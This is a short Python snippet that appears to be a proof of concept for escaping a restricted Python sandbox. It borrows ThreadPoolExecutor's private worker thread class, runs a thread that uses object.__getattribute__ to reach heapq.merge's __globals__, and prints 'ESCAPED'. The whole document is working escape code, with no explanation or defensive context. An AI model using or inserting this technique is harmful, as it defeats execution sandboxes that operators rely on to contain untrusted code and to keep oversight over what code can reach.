# A thread made of its class runs the accessor.
from concurrent.futures import ThreadPoolExecutor
import heapq, functools
got = []
with ThreadPoolExecutor(1) as ex:
    ex.submit(int).result()
    T = type(list(ex._threads)[0])
t = T(target=lambda: got.append(object.__getattribute__(heapq.merge, "__globals__")))
t.start(); t.join()
print("ESCAPED", got[0])
